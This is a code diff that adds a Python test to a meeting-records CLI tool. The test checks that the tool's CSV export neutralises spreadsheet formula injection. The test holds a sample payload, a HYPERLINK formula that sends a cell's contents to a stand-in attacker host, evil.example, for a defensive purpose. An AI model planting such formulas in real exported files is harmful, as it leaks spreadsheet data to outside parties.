@@ -224,3 +224,20 @@ def test_a_records_note_may_link_an_organisations_page(runner: CliRunner,
                  "annoncée sur facebook.com/PSEANetworkMali et facebook.com/events/123456789")
     assert added.exit_code == 0, added.output  # type: ignore[attr-defined]
     assert load_dataset(valid_repo, use_cache=False)[1] == []
+
+
+def test_a_formula_in_a_meeting_file_reaches_the_csv_views_as_inert_text(
+        runner: CliRunner, valid_repo: Path) -> None:
+    _meeting(runner, valid_repo)
+    meeting = valid_repo / "data/meetings/2021-03-04-network.yaml"
+    formula = '=HYPERLINK("http://evil.example/"&A1,"clic")'
+    meeting.write_text(meeting.read_text(encoding="utf-8").replace(
+        "text: Partager le compte rendu", f"text: '{formula}'"), encoding="utf-8")
+    assert formula in (point.text for point in load_dataset(
+        valid_repo, use_cache=False)[0].records.meetings[0].value.action_points)
+    result = _run(runner, valid_repo, "action", "list", "--format", "csv")
+    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
+    texts = [row["text"] for row in csv.DictReader(io.StringIO(
+        result.stdout))]  # type: ignore[attr-defined]
+    assert "'" + formula in texts
+    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
